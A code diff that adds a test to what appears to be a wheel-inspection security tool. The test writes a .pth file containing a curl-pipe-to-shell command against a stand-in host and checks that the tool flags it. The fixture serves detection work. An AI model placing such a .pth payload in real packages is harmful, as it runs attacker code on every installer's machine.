@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import zipfile
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
@@ -283,3 +284,15 @@ def test_inspect_of_what_is_not_there_names_the_next_step(tmp_path: Path) -> Non
     assert "NAME==VERSION" in done.output
     done = CliRunner().invoke(main, ["inspect", "--offline", "demo==1.0"])
     assert done.exit_code == 3
+
+
+def test_a_folder_of_wheels_is_inspected_wheel_by_wheel(tmp_path: Path) -> None:
+    folder = tmp_path / "wheels" / "deeper"
+    folder.mkdir(parents=True)
+    with zipfile.ZipFile(folder / "evil-1.0-py3-none-any.whl", "w") as wheel:
+        wheel.writestr("evil.pth", "import os;os.system('curl https://x.example/a | sh')\n")
+        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
+        wheel.writestr("evil-1.0.dist-info/RECORD", "")
+    done = CliRunner().invoke(main, ["inspect", "--offline", str(tmp_path / "wheels")])
+    assert done.exit_code == 1, done.output
+    assert "evil.pth" in done.output
